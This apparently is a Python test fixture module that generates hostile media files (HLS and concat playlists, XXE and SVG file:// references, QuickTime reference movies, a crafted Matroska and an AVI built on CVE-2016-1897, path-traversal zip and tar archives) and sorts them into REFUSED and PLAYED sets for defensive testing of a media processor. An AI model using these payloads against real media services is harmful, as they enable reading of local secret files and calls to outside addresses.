"""Files that try to make a media program read this machine's files or call an address."""

import gzip
import io
import lzma
import struct
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

from tests.hostile.movies import alias, url, urn, with_data_reference
from tests.hostile.sources import make_source
from tests.support.clips import run

Trick = Callable[[Path, str, str], bytes]  # (folder, path of a secret, address) → file


def text(words: str) -> Trick:
    """Fill *words*: {path} is the secret's place, {address} where nobody may call."""
    return lambda _, path, address: words.format(path=path, address=address).encode()


def movie_elsewhere(reference: Callable[[str], bytes], *, local: bool) -> Trick:
    def trick(folder: Path, path: str, address: str) -> bytes:
        told = reference(path if local else address)
        return with_data_reference(make_source("h264.mp4", folder), told)

    return trick


def behind_a_header(head: bytes) -> Trick:
    """A playlist behind the first bytes of something else."""
    return lambda _, path, address: head + PLAYLIST.format(path=path, address=address).encode()


def reference_movie(folder: Path, path: str, address: str) -> bytes:
    """QuickTime's redirection: a movie that is only a list of other movies."""
    del folder
    places = b""
    for place in (path, address):
        rdrf = struct.pack(">I4sI", 0, b"url ", len(place) + 1) + place.encode() + b"\0"
        places += _box(b"rmda", _box(b"rdrf", rdrf))
    return _box(b"ftyp", b"qt  ", bytes(4)) + _box(b"moov", _box(b"rmra", places))


def attached(folder: Path, path: str, address: str) -> bytes:
    """A Matroska with an attachment, chapters, subtitles, and a name of a segment elsewhere."""
    source = folder / "hostile-h264.mp4"
    make_source("h264.mp4", folder)
    font, titles, chapters, target = (
        folder / name for name in ("font.ttf", "titles.srt", "chapters.txt", "attached.mkv")
    )
    font.write_bytes(f"{path} {address}".encode() * 20)
    titles.write_text(f"1\n00:00:00,000 --> 00:00:04,000\n<img src='file://{path}'> {address}\n")
    chapters.write_text(
        f";FFMETADATA1\ntitle=concat:{path}\n[CHAPTER]\nTIMEBASE=1/1\nSTART=0\nEND=2\n"
        f"title=file://{path}\n"
    )
    run(
        *("-i", str(source), "-i", str(titles), "-i", str(chapters), "-map", "0", "-map", "1"),
        *("-map_metadata", "2", "-c", "copy", "-c:s", "srt", "-attach", str(font)),
        *("-metadata:s:t", "mimetype=font/ttf", "-metadata:s:t", f"filename={path}"),
        *("-y", str(target)),
    )
    data = target.read_bytes()
    name = path.encode()[-100:]
    linked = b"\x3e\x83\xbb" + bytes([0x80 | len(name)]) + name  # NextFilename
    at = data.index(b"\x16\x54\xae\x6b", data.index(b"\x4d\x80"))  # Tracks, behind Info
    return data[:at] + linked + data[at:]


def subtitled_avi(folder: Path, path: str, address: str) -> bytes:
    """An AVI with a stream of text whose packet is a playlist (GAB2, as of CVE-2016-1897)."""
    data = make_source("mpeg4.avi", folder)
    playlist = PLAYLIST.format(path=path, address=address).encode()
    gab2 = b"GAB2\0" + struct.pack("<HIHI", 2, 2, 0, 4) + struct.pack("<I", len(playlist))
    strh = struct.pack("<4s4sIHHIIIIIIII8x", b"txts", bytes(4), *([0] * 4), 1, 25, 0, 1, 99, 0, 0)
    stream = _list(b"strl", _chunk(b"strh", strh) + _chunk(b"strf", b""))
    hdrl, movi = data.index(b"hdrl"), data.index(b"movi")
    size = struct.unpack_from("<I", data, hdrl - 4)[0]
    header = bytearray(data[hdrl : hdrl - 4 + 4 + size])
    streams = header.index(b"avih") + 8 + 24
    header[streams : streams + 4] = struct.pack("<I", 3)
    packets = _chunk(b"02tx", gab2 + playlist) + data[movi + 4 :]
    body = b"AVI " + _list(b"hdrl", bytes(header[4:]) + stream) + _list(b"movi", packets)
    return b"RIFF" + struct.pack("<I", len(body)) + body


def packets_of_playlist(folder: Path, path: str, address: str) -> bytes:
    """A transport stream with packets that hold a playlist."""
    whole = make_source("h264.ts", folder)
    playlist = PLAYLIST.format(path=path, address=address).encode()
    packet = b"\x47\x1f\xff\x10" + playlist[:184].ljust(184, b"\n")
    return whole[: 188 * 20] + packet * 20 + whole[188 * 20 :] + playlist


def archive(pack: Callable[[bytes], bytes]) -> Trick:
    return lambda folder, _path, _address: pack(make_source("small.mp4", folder))


def zipped(inside: bytes) -> bytes:
    body = io.BytesIO()
    with zipfile.ZipFile(body, "w") as archive:
        archive.writestr("../../video.mp4", inside)
    return body.getvalue()


def tarred(inside: bytes) -> bytes:
    body = io.BytesIO()
    with tarfile.open(fileobj=body, mode="w") as archive:
        told = tarfile.TarInfo("/etc/video.mp4")
        told.size = len(inside)
        archive.addfile(told, io.BytesIO(inside))
    return body.getvalue()


def _box(kind: bytes, *parts: bytes) -> bytes:
    body = b"".join(parts)
    return struct.pack(">I4s", len(body) + 8, kind) + body


def _chunk(kind: bytes, body: bytes) -> bytes:
    return kind + struct.pack("<I", len(body)) + body + b"\0" * (len(body) % 2)


def _list(kind: bytes, body: bytes) -> bytes:
    return _chunk(b"LIST", kind + body)


PLAYLIST = (
    "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nfile://{path}\n#EXTINF:10.0,\n"
    "concat:{address}?|file://{path}\n#EXTINF:10.0,\n{address}\n#EXT-X-ENDLIST\n"
)
MPD = (
    '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><Period><AdaptationSet>'
    "<Representation><BaseURL>{address}</BaseURL></Representation></AdaptationSet></Period></MPD>"
)
REFUSED: dict[str, Trick] = {
    "playlist.mp4": text(PLAYLIST),
    "blank.mp4": text("\n\n \t" + PLAYLIST),
    "playlist.m3u": text("{path}\n{address}\n"),
    "concat.mkv": text("ffconcat version 1.0\nfile '{path}'\nfile '{address}'\n"),
    "plain-concat.mkv": text("file '{path}'\nfile '{address}'\n"),
    "dash.webm": text(MPD),
    "picture.mov": text(
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        '<image xlink:href="file://{path}"/><image xlink:href="{address}"/></svg>'
    ),
    "entity.mov": text('<!DOCTYPE a [<!ENTITY b SYSTEM "file://{path}">]><a>&b;</a>'),
    "call.mp4": text("v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\nm=video 9 RTP/AVP 96\r\n"),
    "reference.asf": text("[Reference]\nRef1={address}\nRef2=file://{path}\n"),
    "list.wmv": text('<ASX version="3.0"><Entry><Ref href="{address}"/></Entry></ASX>'),
    "stream.rm": text("{address}\n"),
    "images.mp4": text("/tmp/%d.jpg {path}\n"),
    "redirect.mov": reference_movie,
    "head.mp4": behind_a_header(b"\0\0\0\x10ftypisom\0\0\0\0"),
    "head.ts": behind_a_header(b"\x47" + b"\xff" * 187),
    "head.mkv": behind_a_header(b"\x1a\x45\xdf\xa3\x80"),
    "zip.mp4": archive(zipped),
    "tar.mp4": archive(tarred),
    "tar.gz.mp4": archive(lambda inside: gzip.compress(tarred(inside))),
    "tar.xz.mp4": archive(lambda inside: lzma.compress(tarred(inside))),
    "nothing.mp4": text(""),
    "one.mp4": text("x"),
}
PLAYED: dict[str, Trick] = {
    "alias.mov": movie_elsewhere(alias, local=True),
    "url.mp4": movie_elsewhere(url, local=False),
    "file-url.mp4": movie_elsewhere(lambda path: url(f"file://{path}"), local=True),
    "urn.mp4": movie_elsewhere(urn, local=False),
    "attached.mkv": attached,
    "subtitled.avi": subtitled_avi,
    "packets.ts": packets_of_playlist,
}
